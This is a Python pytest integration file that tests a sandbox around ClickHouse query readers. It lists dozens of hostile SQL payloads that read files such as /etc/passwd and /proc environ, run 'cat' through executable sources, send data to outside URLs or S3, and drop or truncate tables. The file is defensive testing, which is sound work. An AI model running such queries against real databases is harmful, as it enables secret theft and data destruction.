"""The second wall alone: SQL that nothing has looked at, in the process of a reader, on the real engine."""

import asyncio
import hashlib
import os
from pathlib import Path

import psutil
import pytest

from switchgear_api.sandbox.readers import Readers
from tests.integration.api.sandbox.conftest import UncheckedReader
from tests.integration.api.test_sql_attacks import ATTEMPTS
from tests.support.canary import SECRET, World
from tests.support.deep import some
from tests.support.engine import call, store_calls

ESCAPES = """
SELECT * APPLY(file) FROM (SELECT '{secret}' AS x)
SELECT arrayMap(file, ['{secret}'])
SELECT arrayMap(`file`, ['{secret}'])
SELECT * APPLY(x -> file(x)) FROM (SELECT '{secret}' AS x)
SELECT COLUMNS('x') APPLY(file) FROM (SELECT '{secret}' AS x)
SELECT * EXCEPT (y) APPLY(file) FROM (SELECT '{secret}' AS x, 1 AS y)
SELECT file('/proc/self/root{secret}')
SELECT file('/proc/self/cwd/../../../../../../../../../..{secret}')
SELECT * FROM file('{secret}', RawBLOB)
SELECT * FROM file('{folder}/*', LineAsString)
SELECT * FROM filesystem('{folder}') WHERE length(content) > 0
SELECT content FROM filesystem('{secret}')
CREATE TABLE evil_file (s String) ENGINE = File(LineAsString, '{secret}'); SELECT * FROM evil_file
CREATE TABLE evil_out (s String) ENGINE = File(LineAsString, '{folder}/written'); INSERT INTO evil_out VALUES ('x')
CREATE TABLE evil_url (s String) ENGINE = URL('{url}', LineAsString); SELECT * FROM evil_url
CREATE TABLE evil_disk (a Int8) ENGINE = MergeTree ORDER BY a SETTINGS disk = disk(type = local, path = '{folder}/disk/')
CREATE TABLE evil_web (a Int8) ENGINE = MergeTree ORDER BY a SETTINGS disk = disk(type = web, endpoint = '{url}/')
CREATE DATABASE evil_files ENGINE = Filesystem('{folder}'); SELECT * FROM evil_files.`secret.txt`
CREATE DATABASE evil_sqlite ENGINE = SQLite('{folder}/written.db'); SHOW TABLES FROM evil_sqlite
CREATE DATABASE evil_mysql ENGINE = MySQL('{address}', 'd', 'u', 'p'); SHOW TABLES FROM evil_mysql
CREATE DICTIONARY evil_1 (a String) PRIMARY KEY a SOURCE(FILE(path '{secret}' format 'LineAsString')) LAYOUT(COMPLEX_KEY_HASHED()) LIFETIME(0); SELECT * FROM evil_1
CREATE DICTIONARY evil_2 (a String) PRIMARY KEY a SOURCE(EXECUTABLE(command 'cat {secret}' format 'LineAsString')) LAYOUT(COMPLEX_KEY_HASHED()) LIFETIME(0); SELECT * FROM evil_2
CREATE DICTIONARY evil_3 (a String) PRIMARY KEY a SOURCE(HTTP(url '{url}' format 'LineAsString')) LAYOUT(COMPLEX_KEY_HASHED()) LIFETIME(0); SELECT * FROM evil_3
ATTACH TABLE evil_from FROM '{folder}' (s String) ENGINE = File(LineAsString); SELECT * FROM evil_from
INSERT INTO FUNCTION file('{folder}/written', LineAsString) SELECT 'x'
INSERT INTO FUNCTION url('{url}', LineAsString, 's String') SELECT 'x'
INSERT INTO FUNCTION remote('{address}', system.one) SELECT 1
BACKUP TABLE tool_metrics TO File('{folder}/backup')
BACKUP TABLE tool_metrics TO S3('{url}/bucket/', 'id', 'secret')
RESTORE TABLE tool_metrics AS evil_restored FROM File('{folder}')
CREATE FUNCTION evil_function AS (x) -> file(x); SELECT evil_function('{secret}')
SELECT * FROM executable('cat {secret}', LineAsString, 's String')
SELECT * FROM s3('file://{secret}', LineAsString)
SELECT * FROM url('file://{secret}', LineAsString, 's String')
SELECT * FROM python(open('{secret}'))
"""
DAMAGE = """
DROP TABLE tool_metrics SYNC
TRUNCATE TABLE tool_errors
ALTER TABLE tool_counts_1m DELETE WHERE 1 SETTINGS mutations_sync = 2
ALTER TABLE tool_latency_15m UPDATE calls = 0 WHERE 1 SETTINGS mutations_sync = 2
ALTER TABLE tool_counts_1m FREEZE
ALTER TABLE tool_latency_15m DETACH PARTITION ID 'all'
ALTER TABLE tool_slow_calls DROP PARTITION ID '202611'
OPTIMIZE TABLE tool_counts_1m FINAL
INSERT INTO tool_slow_calls (tool_name, status) VALUES ('x', 'success')
INSERT INTO FUNCTION file('{store}/store/written', LineAsString) SELECT 'x'
SELECT 1 INTO OUTFILE '{store}/metadata/written'
CREATE DATABASE evil_database
SYSTEM START MERGES
"""


def request_for(attempt: str, world: World) -> list[str]:
    return [part.strip() for part in world.filled(attempt).split("; ")]


@pytest.mark.parametrize("attempt", some([*ESCAPES.strip().splitlines(), *ATTEMPTS], 40))
def test_sandboxed_query_opens_no_file_and_no_socket_outside(reader, world, attempt):
    assert SECRET.encode() not in reader.ask(*request_for(attempt, world))
    assert world.traces() == []


@pytest.mark.parametrize(
    "path",
    [
        "/etc/passwd",
        "/etc/hostname",
        "/proc/1/environ",
        "/proc/{parent}/environ",
        "/proc/{parent}/mem",
        "/proc/{parent}/maps",
        "/proc/self/environ",
        "/proc/self/mountinfo",
        "/proc/self/net/tcp",
        "/proc/net/tcp",
        "/proc/{parent}/cwd/pyproject.toml",
        "{store}/switchgear.lock",
        "{store}/status",
        "{store}/metadata/switchgear.sql",
        "{project}/pyproject.toml",
    ],
)
def test_sandboxed_query_cannot_read_an_existing_file(reader, engine, path):
    there = path.format(parent=os.getpid(), store=engine.folder, project=Path.cwd())
    said = reader.ask(f"SELECT length(file('{there}'))", f"SELECT count() FROM file('{there}', RawBLOB)")
    assert said.count(b"DB::") >= 2, said
    assert b"ermission denied" in said or b"not permitted" in said, said


def test_environment_of_a_readers_process_has_no_secrets(engine, monkeypatch):
    monkeypatch.setenv("SWITCHGEAR_CLICKHOUSE_URL", f"http://user:{SECRET}@host/")
    readers = Readers(engine.folder, engine.database, max_seconds=5)
    reader = UncheckedReader(readers)
    try:
        environment = psutil.Process(reader.client.pid).environ()
    finally:
        reader.leave()
        readers.close()
    assert set(environment) == {"TMPDIR", "HOME", "LANG"}


def test_link_in_the_scratch_folder_does_not_lead_out(reader, world):
    engine = reader.client._process.engine
    (engine / "link").symlink_to(world.folder / "secret.txt")
    (engine / "links").symlink_to(world.folder)
    said = reader.ask(f"SELECT file('{engine}/link')", f"SELECT file('{engine}/links/secret.txt')")
    assert SECRET.encode() not in said
    assert b"denied" in said


def test_sandboxed_query_cannot_damage_the_stored_rows(engine, world):
    asyncio.run(store_calls(engine, [call("kept"), call("kept", "error", execution_time_ms=9000.0)]))
    asyncio.run(engine.command("SYSTEM STOP MERGES"))
    tables = asyncio.run(engine.query("SHOW TABLES")).result_rows
    merged = asyncio.run(engine.query("SELECT path FROM system.parts WHERE NOT active")).result_rows
    parts = [Path(path) for (path,) in merged]  # merged ones, which the engine itself removes
    before = hashes(engine.folder, without=parts)
    readers = Readers(engine.folder, engine.database, max_seconds=30)
    reader = UncheckedReader(readers)
    try:
        assert reader.ask("SELECT count() > 0 FROM tool_metrics") == b"1\n", "it reads them"
        for attempt in DAMAGE.strip().splitlines():
            reader.ask(*request_for(attempt.replace("{store}", str(engine.folder)), world))
    finally:
        reader.leave()
        readers.close()
    assert hashes(engine.folder, without=parts) == before
    assert asyncio.run(engine.query("SHOW TABLES")).result_rows == tables
    asyncio.run(engine.command("SYSTEM START MERGES"))


def hashes(folder: Path, *, without: list[Path]) -> dict[str, str]:
    skipped = [folder / "readers", *without]
    return {
        str(path.relative_to(folder)): hashlib.sha256(path.read_bytes()).hexdigest()
        for path in sorted(folder.rglob("*"))
        if path.is_file() and not any(path.is_relative_to(each) for each in skipped)
    }


@pytest.mark.deep
@pytest.mark.parametrize(
    ("attempt", "gone"),
    [
        ("SELECT * APPLY(file) FROM (SELECT '{secret}' AS x)", "read"),
        ("SELECT * FROM file('{secret}', LineAsString)", "read"),
        ("SELECT 1 INTO OUTFILE '{folder}/written'", "written"),
        ("SELECT * FROM url('{url}', LineAsString, 's String') SETTINGS http_max_tries = 1", "reached"),
    ],
)
def test_same_queries_succeed_without_the_sandbox(engine, world, attempt, gone):
    """Else the tests above would prove nothing."""
    readers = Readers(engine.folder, engine.database, max_seconds=2, walled=False)
    reader = UncheckedReader(readers)
    try:
        said = reader.ask(world.filled(attempt))
    finally:
        reader.leave()
        readers.close()
    written = world.folder / "written"
    assert {"read": SECRET.encode() in said, "written": written.exists(), "reached": world.listener.asked}[gone]
    written.unlink(missing_ok=True)
    world.listener.asked.clear()
